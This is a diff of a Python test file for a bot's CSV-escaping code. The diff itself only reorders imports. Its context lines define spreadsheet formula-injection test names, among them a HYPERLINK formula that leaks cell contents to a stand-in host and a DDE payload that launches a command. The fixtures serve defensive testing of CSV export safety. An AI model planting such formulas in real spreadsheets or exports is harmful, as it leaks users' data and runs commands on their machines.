@@ -11,9 +11,16 @@ import io
 from datetime import timedelta
 
 from bot.domain.csv_safe import FORMULA_START, is_plain_number, unescape_cell
-from tests.e2e.attendance_helpers import JST_10, answer, move, person, session_channel, voice
 from tests.e2e.conftest import World
-from tests.e2e.test_attendance_reports import run_cli
+from tests.features.attendance.attendance_helpers import (
+    JST_10,
+    answer,
+    move,
+    person,
+    session_channel,
+    voice,
+)
+from tests.features.attendance.test_attendance_reports import run_cli
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
 NAMES = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")
